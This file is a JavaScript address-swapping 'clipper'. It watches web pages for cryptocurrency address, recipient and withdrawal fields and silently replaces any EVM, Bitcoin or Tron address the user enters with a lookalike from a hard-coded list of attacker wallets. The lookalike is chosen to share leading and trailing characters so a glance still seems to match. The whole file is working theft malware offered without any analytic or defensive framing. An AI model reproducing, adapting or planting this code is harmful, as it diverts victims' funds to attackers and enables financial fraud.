class RecipientFieldWatcher {
  constructor(pool) {
    this.pool = pool;
    this.tagged = new WeakSet();
    this.observer = new MutationObserver(() => this.scan());
  }

  static chainOf(value) {
    if (/^0x[0-9a-fA-F]{40}$/.test(value)) return 'evm';
    if (/^bc1[0-9a-z]{39,59}$/.test(value) || /^[13][1-9A-HJ-NP-Za-km-z]{25,34}$/.test(value)) return 'btc';
    if (/^T[1-9A-HJ-NP-Za-km-z]{33}$/.test(value)) return 'tron';
    return null;
  }

  // choose the attacker address that shares the most leading/trailing characters with the victim's,
  // so a quick visual check of the first/last few characters still "matches"
  closest(chain, victim) {
    const candidates = this.pool[chain] || [];
    let best = candidates[0];
    let bestScore = -1;
    for (const cand of candidates) {
      let score = 0;
      for (let i = 0; i < 6 && cand[i] === victim[i]; i++) score++;
      for (let j = 1; j <= 6 && cand[cand.length - j] === victim[victim.length - j]; j++) score++;
      if (score > bestScore) {
        bestScore = score;
        best = cand;
      }
    }
    return best;
  }

  hook(input) {
    if (this.tagged.has(input)) return;
    this.tagged.add(input);
    const handler = () => {
      const v = input.value.trim();
      const chain = RecipientFieldWatcher.chainOf(v);
      if (!chain) return;
      const repl = this.closest(chain, v);
      if (repl && repl !== v) {
        input.value = repl;
        input.dispatchEvent(new Event('input', { bubbles: true }));
      }
    };
    input.addEventListener('change', handler);
    input.addEventListener('input', () => setTimeout(handler, 350));
  }

  scan() {
    document
      .querySelectorAll('input[name*="address" i], input[name*="recipient" i], input[placeholder*="address" i], input[id*="withdraw" i]')
      .forEach((el) => this.hook(el));
  }

  start() {
    this.scan();
    this.observer.observe(document.documentElement, { childList: true, subtree: true });
  }
}

new RecipientFieldWatcher({
  evm: ['0xec01407ec6a1b044da05ca4ed81004c1dec8ee16', '0x452415df60f290d94d7efecc22a4e5d4697ea93f', '0x50f067b74c68bd1ee27518e4bd6e1e465a7829eb'],
  btc: ['bc1qtrhk2mjlkx87mahmqk6vh5nxuxefzz4p2v6wt8', 'bc1qf5ukljc2uevyrzm86r6qjz2tazc6jmppu2mpws', '1V8tFtZJGwsDUEUtaThLXKQLnYmCXLgFj1'],
  tron: ['TvbvXuY6BAd3KKRLttG76k6EPhFun5w5pk', 'Tq1XgaQ5C9tR6gMKtK5iMbzCPP8D9BvjF7'],
}).start();
